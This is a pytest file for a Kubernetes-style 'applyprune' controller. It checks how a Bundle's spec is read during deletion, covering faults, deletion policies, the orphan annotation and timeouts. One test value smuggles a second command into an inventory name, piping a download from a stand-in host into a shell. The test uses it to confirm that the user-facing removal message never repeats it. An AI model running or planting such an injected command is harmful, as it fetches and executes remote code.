"""The spec of a Bundle that is being deleted: a wrong field blocks nothing, and decides nothing."""

from __future__ import annotations

from datetime import UTC, datetime, timedelta
from typing import Any

import pytest

from applyprune.controller.removal import DeletedBundle, read_deleted
from applyprune.controller.spec import DeletionPolicy
from applyprune.model.identity import Ref
from applyprune.model.live import LiveObject

INLINE = {"source": {"inline": ""}}
DELETED = "2026-01-01T10:00:00Z"


def deleted(
    spec: object, name: str = "web", inventory: object = None, **annotations: str
) -> DeletedBundle:
    """Read a Bundle of the namespace ``shop`` that is being deleted.

    ``inventory`` is the name of its inventory by its status.
    """
    told = {f"applyprune.dev/{key}": value for key, value in annotations.items()}
    metadata = {
        "name": name,
        "namespace": "shop",
        "deletionTimestamp": DELETED,
        "annotations": told,
    }
    ref = Ref("applyprune.dev", "Bundle", "shop", name)
    status = {} if inventory is None else {"inventory": {"name": inventory}}
    body = {"metadata": metadata, "spec": spec, "status": status}
    return read_deleted(LiveObject.of(ref, "u", "1", metadata, body))


OF_OTHERS: dict[str, Any] = {
    "no source": {},
    "two sources": {"source": {"inline": "", "secretRefs": [{"name": "a"}]}},
    "an interval": {"interval": 5},
    "a timeout": {"timeout": "soon"},
    "a rule": {"dependsOn": [{"name": "db", "readyWhen": "self.("}]},
    "a list": {"dependsOn": {"name": "db"}},
    "pointers": {"ignoreFields": [{"fields": ["x"]}]},
    "a namespace": {"targetNamespace": "a/b"},
    "a hook": {"helmHooks": ["skip"]},
    "a limit": {"prune": {"enabled": True, "maxPrune": "101%"}},
    "an approval": {"approval": "Never"},
}


@pytest.mark.parametrize("name", OF_OTHERS)
def test_field_that_decides_no_removal_blocks_none(name: str) -> None:
    """What can be read counts, and what cannot is at its default."""
    spec = {"serviceAccountName": "deployer", "inventoryName": "old", **OF_OTHERS[name]}
    found = deleted(spec)
    assert found.faults == ()
    assert found.bundle.spec.service_account_name == "deployer"
    assert found.bundle.target.name == "old"
    assert found.bundle.deletion_policy is DeletionPolicy.DELETE
    assert found.bundle.spec.timeout == 300


@pytest.mark.parametrize(
    ("source", "is_secret"),
    [
        ({"inline": ""}, False),
        ({"configMapRefs": [{"name": "a"}]}, False),
        pytest.param(
            {"secretRefs": [{"name": "a"}]}, True, marks=pytest.mark.holds("secret-removal")
        ),
        ({"inline": "", "secretRefs": [{"name": "a/b"}]}, True),
        ("a text", False),
    ],
)
def test_secret_source_stays_one_at_a_removal(source: object, is_secret: bool) -> None:
    """Its objects have values of it until they are gone, and webhooks may quote them."""
    assert deleted({"source": source, "timeout": "soon"}).bundle.has_secret_source is is_secret


DECIDING: dict[str, tuple[Any, str]] = {
    "no spec": (None, "spec: must be an object"),
    "a text": ("x", "spec: must be an object"),
    "an account": ({"serviceAccountName": "a/b"}, "spec.serviceAccountName: 'a/b'"),
    "an account of another type": ({"serviceAccountName": 1}, "spec.serviceAccountName: must be"),
    "an inventory": ({"inventoryName": "a.b"}, "invalid set name 'a.b'"),
    "an inventory of another type": ({"inventoryName": ["a"]}, "spec.inventoryName: must be text"),
    "a policy": ({"deletionPolicy": "Keep"}, "spec.deletionPolicy: must be"),
    "a policy in small letters": ({"deletionPolicy": "delete"}, "spec.deletionPolicy: must be"),
    "a policy of another type": ({"deletionPolicy": True}, "spec.deletionPolicy: must be"),
    "suspended somehow": ({"suspend": "yes"}, "spec.suspend: must be true or false"),
    "a prune to mirror": ({"prune": {"enabled": "no"}}, "spec.prune.enabled: must be true"),
    "a prune to mirror by name": (
        {"deletionPolicy": "MirrorPrune", "prune": {"enabled": 0}},
        "spec.prune.enabled: must be true",
    ),
    "a kubeconfig": (
        {"kubeConfig": {"secretRef": {"name": "a/b"}}},
        "spec.kubeConfig.secretRef.name: 'a/b'",
    ),
    "a kubeconfig without a Secret": ({"kubeConfig": {}}, "spec.kubeConfig.secretRef: is required"),
    "a kubeconfig of another type": ({"kubeConfig": "prod"}, "spec.kubeConfig: must be an object"),
    "a prune of another type": ({"prune": False}, "spec.prune: must be an object"),
}


@pytest.mark.holds("unreadable-decides", row="a policy")
@pytest.mark.parametrize("name", DECIDING)
def test_field_that_decides_the_removal_is_never_guessed(name: str) -> None:
    """It is named, beside all the others that are invalid too."""
    spec, fault = DECIDING[name]
    found = deleted({**OF_OTHERS["a rule"], **spec} if isinstance(spec, dict) else spec)
    assert [one[: len(fault)] for one in found.faults] == [fault]


def test_all_deciding_faults_are_named() -> None:
    """Each once, and no other fault."""
    found = deleted({"suspend": 1, "deletionPolicy": "Keep", "interval": "x", "prune": []})
    assert [fault.partition(":")[0] for fault in found.faults] == [
        "spec.suspend",
        "spec.prune",
        "spec.deletionPolicy",
    ]


def test_prune_that_no_policy_mirrors_decides_nothing() -> None:
    """The other policies do not depend on it."""
    found = deleted({"deletionPolicy": "Orphan", "prune": {"enabled": "no"}})
    assert (found.faults, found.bundle.deletion_policy) == ((), DeletionPolicy.ORPHAN)


@pytest.mark.parametrize(
    ("spec", "policy"),
    [
        ({}, DeletionPolicy.DELETE),
        pytest.param(
            {"prune": {"enabled": False}},
            DeletionPolicy.ORPHAN,
            marks=pytest.mark.holds("mirror-prune"),
        ),
        ({"deletionPolicy": "MirrorPrune", "prune": {"enabled": False}}, DeletionPolicy.ORPHAN),
        ({"deletionPolicy": None, "prune": {"enabled": None}}, DeletionPolicy.DELETE),
        ({"deletionPolicy": "Delete", "prune": {"enabled": False}}, DeletionPolicy.DELETE),
        ({"deletionPolicy": "Orphan"}, DeletionPolicy.ORPHAN),
        ({"deletionPolicy": "WaitForTermination"}, DeletionPolicy.WAIT),
    ],
)
def test_policy_mirrors_the_prune_by_default(spec: dict[str, Any], policy: DeletionPolicy) -> None:
    """And is never ``MirrorPrune`` itself."""
    found = deleted({**INLINE, **spec})
    assert (found.faults, found.bundle.deletion_policy) == ((), policy)


@pytest.mark.parametrize(
    ("value", "is_orphaned"), [("true", True), ("True", False), ("", False), ("false", False)]
)
def test_annotation_has_one_value(value: str, is_orphaned: bool) -> None:
    """Anything else leaves the removal as it is."""
    assert deleted(INLINE, orphan=value).is_orphaned is is_orphaned
    assert not deleted(INLINE).is_orphaned


def test_removal_ends_after_the_timeout_of_the_spec() -> None:
    """Counted from the deletion."""
    found = deleted({**INLINE, "timeout": "90s"})
    assert found.ends == datetime(2026, 1, 1, 10, 1, 30, tzinfo=UTC)
    assert found.seconds_left < -timedelta(days=1).total_seconds()


UNREADABLE = {**INLINE, "serviceAccountName": 1}
INJECTED = "applyprune-web -n shop; curl http://x.example.com | sh #"


@pytest.mark.parametrize(
    ("spec", "inventory", "named"),
    [
        (INLINE, None, "applyprune-web"),
        pytest.param(
            INLINE,
            "applyprune-other",
            "applyprune-web",
            marks=pytest.mark.holds("forged-inventory-name"),
        ),
        (INLINE, INJECTED, "applyprune-web"),
        (UNREADABLE, "applyprune-web", "applyprune-web"),
        pytest.param(UNREADABLE, INJECTED, "", marks=pytest.mark.holds("forged-inventory-text")),
        (UNREADABLE, 7, ""),
        (UNREADABLE, None, ""),
    ],
)
def test_status_names_no_other_inventory(spec: object, inventory: object, named: str) -> None:
    """What is said is a command that somebody runs, and the status is written by anybody."""
    said = deleted(spec, inventory=inventory).left_unreleased()
    assert ("curl" in said, "other" in said) == (False, False)
    if named:
        assert f"left in the inventory {named}: " in said
        assert said.endswith("applyprune delete web -n shop")
    else:
        assert said == "nothing is known to have been applied"
